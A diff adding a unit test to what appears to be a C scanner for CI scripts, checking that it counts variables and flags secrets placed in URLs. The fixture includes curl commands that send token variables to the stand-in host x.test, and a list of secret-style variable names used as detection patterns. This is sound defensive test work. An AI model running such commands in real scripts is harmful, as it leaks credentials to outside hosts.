@@ -1,4 +1,5 @@
 /* What scripts do with identities: each trait where it is, and not where it only looks like it. */
+#include "core/buf.h"
 #include "scanners/ci/ci.h"
 #include "scanners/ci/names.h"
 #include "scanners/ci/script.h"
@@ -110,6 +111,27 @@ static void variables_are_named_once(void **state) {
 	arena_free(&a);
 }
 
+/* More names than are compared one by one: each still once, and what the script sets is still no secret of the store. */
+static void many_names_are_known_too(void **state) {
+	struct arena a = {0};
+	struct buf b = {0};
+	struct script s;
+
+	(void)state;
+	for (int i = 0; i < 40; i++)
+		buf_printf(&b, "echo $N%c%c\n", 'A' + i / 8, 'A' + i % 8);
+	buf_add_str(&b, "echo $NAA $NEH\nMY_TOKEN=x\ncurl https://x.test/?t=$MY_TOKEN\n");
+	script_read(&a, buf_slice(&b), true, &s);
+	assert_int_equal(s.nvariables, 40);
+	assert_false(s.traits[SCRIPT_IN_ADDRESS].set);
+	buf_add_str(&b, "curl https://x.test/?t=$OTHER_TOKEN\n");
+	script_read(&a, buf_slice(&b), true, &s);
+	assert_int_equal(s.nvariables, 41);
+	assert_true(s.traits[SCRIPT_IN_ADDRESS].set);
+	buf_free(&b);
+	arena_free(&a);
+}
+
 static void names_say_what_they_are(void **state) {
 	static const char *const secrets[] = {"NPM_TOKEN", "DB_PASSWORD", "AWS_SECRET_ACCESS_KEY", "api-key",
 		"SSH_PRIVATE_KEY", "GH_PAT", "apiKey", "dockerPassword", "SONAR_TOKEN"};
@@ -134,6 +156,7 @@ int main(void) {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(traits_are_found),
 		cmocka_unit_test(variables_are_named_once),
+		cmocka_unit_test(many_names_are_known_too),
 		cmocka_unit_test(names_say_what_they_are),
 	};
 
